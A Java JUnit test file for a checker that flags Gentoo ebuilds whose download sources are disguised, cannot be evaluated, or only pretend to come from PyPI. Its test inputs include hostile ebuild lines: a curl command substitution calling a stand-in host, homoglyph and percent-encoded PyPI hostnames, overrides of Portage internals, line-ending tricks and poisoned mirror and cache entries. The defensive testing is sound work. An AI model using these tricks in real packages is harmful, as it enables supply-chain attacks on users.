package io.github.ebuildattest.hook.contributor;

import static io.github.ebuildattest.hook.Sample.HERON;
import static io.github.ebuildattest.hook.Sample.heron;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.ebuildattest.hook.Reported;
import io.github.ebuildattest.testkit.overlay.Distfile;
import java.io.IOException;
import java.nio.file.Files;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Sources that nobody can tell, or that a package manager reads otherwise than they stand there.
 */
class UnknownSourcesTest extends ContributorCase {

  private static final String NOT_EVALUATED = "ebuild-not-evaluated";
  private static final String NEW = "dev-python/newpkg";
  private static final String EVIL = "https://heronry.example/x.tar.gz";

  private Distfile[] files;

  @BeforeEach
  void upload() throws IOException {
    files = overlay.upload("heron-parser", "1.5.0", heron("1.5.0"));
  }

  private void bump(String before, String after) throws IOException {
    String text = overlay.text(HERON + "/heron-parser-1.4.0.ebuild");
    overlay
        .ebuild(
            HERON, "1.5.0", text.replace("inherit distutils-r1 pypi", before) + after + "\n", files)
        .slipIn();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "H=pythonhosted; SRC_URI=\"https://files.${H}.org/packages/source/n/newpkg/x-${MY_X}.gz\"",
        "SRC_URI=\"https://files.python\"\"hosted.org/packages/source/n/newpkg/x-${MY_X}.gz\"",
        "A=https://files.python; A+=hosted.org; SRC_URI=\"${A}/packages/x ${MY_X:0:1}\"",
        "SRC_URI=\"$(curl https://heronry.example)\"",
      })
  void blocks_a_new_package_whose_text_could_put_an_address_of_pypi_together(String line)
      throws IOException {
    String text = "EAPI=8\n[[ ${MY_X} ]] && DEPEND=x\n" + line + "\nSLOT=0\n";
    overlay.ebuild(NEW, "1.0", text).slipIn();

    assertBlocked(NOT_EVALUATED);
    assertThat(overlay.check("--all").blocking()).contains(NOT_EVALUATED);
  }

  @Test
  void says_what_to_do_about_an_old_eapi_and_lets_one_be_that_fetches_nothing() throws IOException {
    String text = "# one\n\nEAPI=6\n";
    overlay
        .ebuild(NEW, "9999", text + "HOMEPAGE=\"https://pypi.python.org/pypi/newpkg\"\nSLOT=0\n")
        .slipIn();
    assertThat(overlay.check("--since", base).blocking()).isEmpty();

    overlay.write(NEW + "/newpkg-1.0.ebuild", text + "SRC_URI=mirror://pypi/n/x/x-1.gz\n").slipIn();
    Reported report = overlay.check("--since", base);
    assertThat(report.blocking()).containsExactly(NOT_EVALUATED);
    assertThat(report.message(NOT_EVALUATED)).contains("in line 3", "move to EAPI 7 or later");
  }

  @Test
  void names_an_ebuild_that_nobody_can_evaluate_and_that_cannot_be_one_of_pypi()
      throws IOException {
    String text = "EAPI=8\nSRC_URI=\"https://heronry.example/x.gz\"\n[[ ${MY_X} ]] && SRC_URI=\n";
    overlay.ebuild("app-misc/wader", "1.0", text).slipIn();

    for (String scope : new String[] {"--since=" + base, "--all"}) {
      Reported report = overlay.check(scope);
      assertThat(report.blocking()).as(report.toString()).doesNotContain(NOT_EVALUATED);
      assertThat(report.json().getAsJsonArray("not-evaluated").toString())
          .contains("app-misc/wader/wader-1.0.ebuild", "MY_X");
    }
    assertThat(overlay.tool().run("check", "--since", base).out())
        .contains("not told: what 1 other ebuild would fetch");
    assertThat(overlay.tool().run("check", "--since", "HEAD").out()).doesNotContain("not told");
  }

  @Test
  void does_not_ask_again_about_a_refused_ebuild_for_a_keyword() throws IOException {
    String text =
        "EAPI=8\ninherit pypi\nSRC_URI+=$(curl x)\nKEYWORDS=\"~amd64\"\nLICENSE=\"MIT\"\n";
    overlay.ebuild(NEW, "1.0", text);
    base = overlay.slipIn();
    String ebuild = NEW + "/newpkg-1.0.ebuild";
    overlay.write(ebuild, text.replace("~amd64", "amd64 ~x86").replace("MIT", "BSD")).slipIn();
    assertThat(overlay.check("--since", base).blocking()).isEmpty();

    overlay.write(ebuild, text.replace("curl x", "curl y")).slipIn();
    assertBlocked(NOT_EVALUATED);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SRC_URI=\"https://FILES.pythonhosted.org/packages/source/n/newpkg/newpkg-1.0.tar.gz\"",
        "SRC_URI=\"https://files.pythonh\u043ested.org/packages/source/n/newpkg/newpkg-1.0.tar.gz\"",
        "SRC_URI=\"https://files.pyth%6fnhosted.org/x.tar.gz\"",
        "printf -v SRC_URI https://files.%s%s.org/a/newpkg-1.0.tar.gz python hosted",
        "H=pythonhosted.org; SRC_URI=\"https://files.${H}:443/newpkg-1.0.tar.gz\"",
      })
  void blocks_a_new_package_that_fetches_only_from_what_looks_like_pypi(String line)
      throws IOException {
    overlay.ebuild(NEW, "1.0", "EAPI=8\n" + line + "\nSLOT=0\n").slipIn();

    assertBlocked("source-disguised");
    assertThat(overlay.check("--all").blocking()).contains("source-disguised");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "___eapi_enables_failglob_in_global_scope",
        "___eapi_has_BDEPEND",
        "__qa_source",
        "contains_word",
        "has",
        "die",
        "hasv",
        "debug-print",
        "eqawarn",
      })
  void blocks_a_function_in_the_place_of_one_that_portage_calls(String name) throws IOException {
    bump("inherit distutils-r1 pypi", name + "() { SRC_URI+=' " + EVIL + "'; }");

    assertBlocked(NOT_EVALUATED);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SRC_URI+=\" 'https://heronry.example/heron_parser-1.5.0.tar.gz'\"",
        "SRC_URI+=' \"https://heronry.example/x.tar.gz'",
        "SRC_URI+=' <https://heronry.example/x.tar.gz>'",
        "SRC_URI+=' /etc/host[n]ame'",
        "SRC_URI+=' heronry.example/x.tar.gz'",
        "SRC_URI+=' ./heron_parser-1.5.0.tar.gz'",
        "SRC_URI+=' //heronry.example/x.tar.gz -> y.tar.gz'",
        "SRC_URI+=' 1https://heronry.example/x.tar.gz'",
      })
  void blocks_an_address_that_portage_takes_for_the_name_of_a_file(String line) throws IOException {
    bump("inherit distutils-r1 pypi", line);

    assertBlocked(NOT_EVALUATED);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "inherit distutils-r1 pypi tree-sitter-grammar",
        "inherit distutils-r1 pypi mono-env",
        "inherit distutils-r1 no-such-eclass pypi",
      })
  void blocks_an_eclass_that_sets_the_sources_or_that_nobody_knows(String inherit)
      throws IOException {
    bump(inherit, "");

    assertBlocked(NOT_EVALUATED);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "[[ -n ${XARGS} ]] && SRC_URI=\"" + EVIL + "\"",
        "[[ ${SANDBOX_ON} == 1 ]] && SRC_URI=\"" + EVIL + "\"",
        "SRC_URI=${PYTHON_TARGETS:+" + EVIL + "}",
        "case ${EBUILD_MASTER_PID} in [0-9]*) SRC_URI=" + EVIL + " ;; esac",
        "SRC_URI='-e https:\\x2f\\x2fheronry.example/x \\c '\"${SRC_URI}\"",
        "IFS=@",
        "DESCRIPTION=$'x\\rSRC_URI=" + EVIL + "'",
        "HOMEPAGE=$'x\\u2028SRC_URI=" + EVIL + "'",
      })
  void blocks_what_portage_reads_otherwise(String line) throws IOException {
    bump("inherit distutils-r1 pypi", line);

    assertBlocked(NOT_EVALUATED);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\r", "\r\n", "\u2028", "\u0085", "\f"})
  void blocks_a_cache_entry_with_two_ways_to_read_it(String lineEnd) throws IOException {
    bump("inherit distutils-r1 pypi", "");
    String good =
        "https://files.pythonhosted.org/packages/source/h/heron-parser/heron_parser-1.5.0.tar.gz"
            + " verify-provenance? ("
            + " https://pypi.org/integrity/heron-parser/v1.5.0/heron_parser-1.5.0.tar.gz/provenance"
            + " -> heron_parser-1.5.0.tar.gz.provenance )";
    String entry = "metadata/md5-cache/" + HERON + "-1.5.0";
    overlay.write(entry, "SRC_URI=" + good + "\nDESCRIPTION=x\n_md5_=0\n").slipIn();
    Reported agrees = overlay.check("--since", base);
    assertThat(agrees.code()).as(agrees.toString()).isZero();

    overlay
        .write(
            entry,
            "SRC_URI=" + good + "\nDESCRIPTION=x" + lineEnd + "SRC_URI=" + EVIL + "\n_md5_=0\n")
        .slipIn();
    assertBlocked("metadata-cache-disagrees");
  }

  @Test
  void judges_an_ebuild_that_only_its_cache_entry_leads_to_pypi() throws IOException {
    overlay
        .ebuild("app-misc/wader", "1.5.0", "EAPI=8\nSRC_URI=https://a.example/x\nSLOT=0\n", files)
        .write(
            "metadata/md5-cache/app-misc/wader-1.5.0",
            "SRC_URI=mirror://pypi/h/heron-parser/heron_parser-1.5.0.tar.gz\n_md5_=0\n")
        .slipIn();

    assertBlocked("metadata-cache-disagrees");
  }

  @ParameterizedTest
  @ValueSource(strings = {" ", "\t", "\u00a0", "\u3000", "\u001f", "\u2003"})
  void blocks_a_mirror_of_pypis_name_however_it_is_spaced(String space) throws IOException {
    overlay.write("profiles/thirdpartymirrors", "pypi" + space + "https://heronry.example/\n");
    bump(
        "inherit distutils-r1 pypi",
        "SRC_URI=mirror://pypi/h/heron-parser/heron_parser-1.5.0.tar.gz");

    assertBlocked("source-disguised");
  }

  @Test
  void blocks_a_mirror_that_is_redefined_after_the_bump_that_uses_it() throws IOException {
    bump(
        "inherit distutils-r1 pypi",
        "SRC_URI=mirror://pypi/h/heron-parser/heron_parser-1.5.0.tar.gz");
    base = overlay.git("rev-parse", "HEAD");
    overlay
        .write(
            "profiles/thirdpartymirrors",
            "pypi https://files.pythonhosted.org/packages/source https://heronry.example\n")
        .slipIn();

    assertBlocked("source-disguised");
  }

  @Test
  void judges_a_package_that_fetches_from_pypi_through_a_mirror_of_another_name()
      throws IOException {
    overlay
        .write(
            "profiles/thirdpartymirrors", "heron https://files.pythonhosted.org/packages/source\n")
        .ebuild(
            "app-misc/wader",
            "1.5.0",
            "EAPI=8\nM=heron\n"
                + "SRC_URI=\"mirror://${M}/h/heron-parser/heron_parser-1.5.0.tar.gz\"\nSLOT=0\n",
            files)
        .slipIn();

    assertBlocked("source-disguised");
  }

  @Test
  void reports_whatever_the_overlays_name_is_made_of() throws IOException {
    Files.write(overlay.file("profiles/repo_name"), new byte[] {(byte) 0xff, (byte) 0xfe, 'x', 0});
    overlay.slipIn();

    assertThat(overlay.check("--since", base).json()).isNotNull();
    assertThat(overlay.check("--all").json()).isNotNull();
  }

  @Test
  void says_first_what_nobody_verifies() throws IOException {
    overlay.write(HERON + "/files/wade.patch", "--- a\n+++ b\n");
    files = new Distfile[] {files[0], files[1], Distfile.of("data.zip", "data")};
    bump(
        "inherit distutils-r1 pypi",
        "SRC_URI+=\" https://heronry.example/data.zip\"\n\nsrc_prepare() {\n\teapply x\n}");

    Reported report = overlay.check("--since", base);
    assertThat(report.json().getAsJsonArray("unverified-changes").toString())
        .contains(HERON + "-1.5.0", "src_prepare()", "files/wade.patch", "data.zip");
    assertThat(overlay.tool().run("check", "--since", base).out().lines().toList().get(1))
        .contains("verified by nobody");
  }

  @Test
  void does_not_speak_of_phases_that_are_as_they_were() throws IOException {
    overlay.edit(
        HERON + "/heron-parser-1.4.0.ebuild", "SLOT=", "src_prepare() {\n\teapply x\n}\nSLOT=");
    base = overlay.slipIn();
    bump("inherit distutils-r1 pypi", "");

    Reported report = overlay.check("--since", base);
    assertThat(report.json().getAsJsonArray("unverified-changes")).isEmpty();
  }
}
